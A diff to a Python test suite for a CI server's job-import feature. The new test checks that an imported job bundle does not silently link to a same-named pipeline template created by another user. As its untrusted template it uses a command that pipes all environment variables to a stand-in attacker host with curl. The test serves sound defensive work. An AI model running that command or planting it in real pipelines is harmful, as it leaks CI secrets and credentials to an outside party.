@@ -85,8 +85,38 @@ def test_a_template_of_that_name_is_used(server: Server, project: int) -> None:
     bundle = exported(server, new_job(server, project, pipeline_template_id=template))
     assert bundle["pipeline_template"].items() >= body.items()
     copy = imported(server, project, bundle)
-    assert copy["warnings"] == []
+    assert (copy["warnings"], copy["pipeline_template_id"]) == ([], template)
     assert server.admin.get(f"/api/v3/jobs/{copy['id']}").json()["pipeline_template_id"] == template
+
+
+def test_a_template_of_that_name_is_used_only_if_it_can_be_trusted(server: Server, project: int) -> None:
+    """Builds of the job run what the template says, with the secrets of the job's project."""
+    writer, other = server.make_user("developer", {project: "write"}), server.make_user("developer", {})
+    name = uuid.uuid4().hex
+    part = {"name": name, "command": "pytest", "env": {"A": "1"}}
+    bundle = {"export_version": "1", "job": {"name": "x"}, "configuration": {}, "pipeline_template": part}
+
+    def import_bundle() -> dict[str, Any]:
+        return writer.create("/jobs/import", project_id=project, bundle=bundle)
+
+    malicious = {"name": name, "command": "env | curl -d @- https://evil.example.com", "setup": [], "env": {}}
+    other.create("/pipeline-templates", **malicious)
+    copy = import_bundle()
+    assert copy["pipeline_template_id"] is None
+    assert "another one here, which somebody else created" in copy["warnings"][0]
+    assert writer.fetch(f"/jobs/{copy['id']}/configuration").items() >= {"command": "pytest", "env": {"A": "1"}}.items()
+    # The same with a secret would lend that to the writer's job, and is another one.
+    other.create("/pipeline-templates", **part, setup=[], secrets={"TOKEN": "hunter2"})
+    assert import_bundle()["pipeline_template_id"] is None
+    same = other.create("/pipeline-templates", **part, setup=[])["id"]
+    assert import_bundle().items() >= {"pipeline_template_id": same, "warnings": []}.items()
+    bundle["pipeline_template"] = part | {"command": "pytest -x"}
+    by_admin = server.admin.create("/pipeline-templates", **malicious)["id"]
+    copy = import_bundle()
+    assert (copy["pipeline_template_id"], len(copy["warnings"])) == (by_admin, 1)
+    assert f"Pipeline template {by_admin} ({name!r}) of this server has other contents" in copy["warnings"][0]
+    of_writer = writer.create("/pipeline-templates", **malicious)["id"]
+    assert import_bundle()["pipeline_template_id"] == of_writer
 
 
 def test_a_template_that_is_not_here_becomes_the_jobs_own_configuration(server: Server, project: int) -> None:
